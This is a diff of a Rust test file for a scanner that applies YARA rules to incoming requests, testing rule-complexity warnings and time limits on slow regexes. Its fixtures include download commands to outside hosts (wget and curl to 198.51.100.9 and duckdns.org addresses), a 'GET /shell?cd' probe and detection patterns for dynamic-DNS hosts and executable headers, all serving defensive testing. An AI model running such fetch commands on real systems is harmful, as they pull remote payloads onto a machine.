@@ -164,8 +164,12 @@ fn each_bound_is_named_when_it_is_exceeded() {
     let automata = strings(RULE_AUTOMATA_MAX + 1, "/fixed[a-z]{2,9}(x|yz)/");
     assert_eq!(told(&[file("a", &automata)]), "more than 1024 automata of expressions; keep 1024 at most");
     let loose = strings(RULE_LOOSE_STRINGS_MAX + 1, "/[a-z]+/");
-    assert_eq!(told(&[file("a", &loose)]), "more than 16 strings without two fixed octets in a row; keep 16 at most");
-    assert!(warned(&strings(1, "/[a-z]+/"))[0].starts_with("rule a: $s0 has no two fixed octets in a row"));
+    assert_eq!(
+        told(&[file("a", &loose)]),
+        "more than 16 strings without two fixed octets in a row, or with ^ or $; keep 16 at most"
+    );
+    assert!(warned(&strings(1, "/[a-z]+/"))[0].starts_with("rule a: $s0 has no two fixed octets in a row, or has ^ or $, so"));
+    assert!(warned(&strings(1, r"/^GET \/shell\?cd/"))[0].contains("instead of ^ a string in quotes and `$a at 0`"));
 }
 
 /// Strings whose every hit is looked at for kilobytes: 64 KiB of the right octets take seconds.
@@ -186,22 +190,82 @@ fn what_would_take_seconds_is_cut_and_said_to_be() {
     let cut = seen(&eyes, &vec![b'a'; 64 * 1_024]);
     let took = purse::worked() - begun;
     assert_eq!(cut.facts["rules"], "+");
-    println!("cut after {took:?}");
+    assert!(took < Duration::from_secs(1), "cut after {took:?}");
     // Whoever goes on finds the rules at rest once they have had their share, and everything else is recognised as always.
-    let mut looks = 0;
-    while purse_has_some(&eyes) {
-        drop(seen(&eyes, &vec![b'a'; 64 * 1_024]));
-        looks += 1;
-        assert!(looks < 20);
-    }
+    eyes.rules().unwrap().purse.spend(Duration::from_secs(60));
     let begun = purse::worked();
     let rest = seen(&eyes, b"found me; wget http://198.51.100.9/x");
     assert!(purse::worked() - begun < Duration::from_millis(20));
     assert_eq!((rest.facts["rules"].as_str(), rest.facts["download"].as_str()), ("+", "http://198.51.100.9/x"));
 }
 
-fn purse_has_some(eyes: &Eyes) -> bool {
-    eyes.rules().is_some_and(|rules| rules.purse.has_some())
+/// Rules as anybody writes them, and what holds boreal up if it is let.
+fn slow() -> Vec<(&'static str, Vec<u8>)> {
+    let again = |octets: &[u8]| octets.iter().copied().cycle().take(64 * 1_024).collect::<Vec<u8>>();
+    let behind = |first: u8, then: &[u8]| [vec![first; 4_096].as_slice(), again(then).as_slice()].concat();
+    vec![
+        (r"$a = /[a-z0-9.-]+\.duckdns\.org/", again(b".duckdns.org")),
+        (r"$a = /[a-z0-9.-]+\.duckdns\.org/ nocase wide ascii", again(b".\0d\0u\0C\0k\0d\0n\0s\0.\0o\0r\0g\0")),
+        (r"$a = /https?:\/\/.+\.example\.com/", again(b"http://a.example.com")),
+        (r"$a = /a.{0,4000}bbbb/", behind(b'a', b"b")),
+        ("$a = { 4D 5A [0-4000] 50 45 00 00 }", again(b"MZMZMZMZPE\0\0")),
+        (r"$a = /[ab]*a[ab]{0,2000}wxyz/", again(b"abbabaabbaababbabaababbaabbabaabwxyz")),
+        (r"$a = /[a-z]+/ fullword", [vec![b'a'; 64 * 1_024].as_slice(), b"1"].concat()),
+        (r"$a = /[a-z]+[0-9]*/", again(b"a")),
+    ]
+}
+
+/// How much of it may just be looked at, and how long that takes.
+fn most_allowed(rules: &Rules, said: &[u8]) -> (usize, Duration) {
+    let (mut most, mut refused) = (0, said.len() + 1);
+    while refused - most > 1 {
+        let tried = (most + refused) / 2;
+        if rules.toll.allows(&said[..tried]) {
+            most = tried;
+        } else {
+            refused = tried;
+        }
+    }
+    let begun = purse::worked();
+    drop(rules.scanner.scan_mem(&said[..most]));
+    (most, purse::worked() - begun)
+}
+
+#[test]
+fn no_accepted_rule_holds_everybody_up_whatever_is_said() {
+    for (string, said) in slow() {
+        let (sender, done) = std::sync::mpsc::channel();
+        let rule = format!("rule a {{ strings: {string} condition: $a }}");
+        // In a thread of its own: a failure must not take a minute to be told.
+        std::thread::spawn(move || {
+            let told = check(&[file("a.yar", &rule)]).unwrap();
+            let eyes = eyes(&[file("a.yar", &rule)]);
+            let begun = purse::worked();
+            let sight = seen(&eyes, &said);
+            let took = purse::worked() - begun;
+            sender.send((told, took, most_allowed(eyes.rules().unwrap(), &said), sight.facts.get("rules").cloned())).unwrap();
+        });
+        let (told, took, most, rules) =
+            done.recv_timeout(Duration::from_secs(10)).unwrap_or_else(|_| panic!("{string} takes longer than 10 s"));
+        println!("{string}: {took:?} {rules:?}; the most that is allowed: {most:?}");
+        assert!(took.max(most.1) < Duration::from_secs(2), "{string}: {took:?}, {most:?}");
+        assert!(!told.is_empty(), "{string} is warned of");
+        assert!(rules.is_some(), "{string} is cut, or has matched");
+    }
+}
+
+#[test]
+fn ordinary_requests_are_looked_at_whatever_the_rules_reach() {
+    let table = [
+        (r"$a = /[a-z0-9.-]+\.duckdns\.org/", "curl -O http://x.duckdns.org/a; wget http://y.duckdns.org/b; "),
+        (r"$a = /https?:\/\/.+\.example\.com/", "wget http://a.example.com/x; "),
+        (r"$a = /[a-z0-9.-]{1,64}\.duckdns\.org/", &"wget http://x.duckdns.org/a;\n".repeat(1_000)),
+    ];
+    for (string, said) in table {
+        let eyes = eyes(&[file("a.yar", &format!("rule a {{ strings: {string} condition: $a }}"))]);
+        assert_eq!(seen(&eyes, said.as_bytes()).facts["rules"], "a", "{string}");
+    }
+    assert_eq!(warned(r"rule a { strings: $a = /[a-z0-9.-]{1,64}\.duckdns\.org/ condition: $a }"), [""; 0]);
 }
 
 #[test]
@@ -222,8 +286,8 @@ fn what_is_told_is_bounded_and_harmless() {
 #[test]
 fn rules_that_could_hold_everybody_up_are_found_when_they_are_checked() {
     let told = check(&[quadratic()]).unwrap();
-    assert!(told[0].what.starts_with("rule q0: 64 KiB of what $a begins with hold all traps up for "), "{told:?}");
-    assert_eq!(told[0].file.as_deref(), Some("quadratic.yar"));
+    assert!(told[0].what.starts_with("rule q0: $a reaches so far from its fixed octets that a long piece"), "{told:?}");
+    assert_eq!((told[0].file.as_deref(), told[0].at), (Some("quadratic.yar"), Some(19)));
     let loops = "import \"math\" rule l { condition: for all i in (0..9000) : (math.entropy(0, filesize) < 1.0) }";
     let told = check(&[file("loops.yar", loops)]).unwrap();
     assert!(told.len() == 1 && told[0].what.starts_with("64 KiB of zeros hold all traps up for "), "{told:?}");
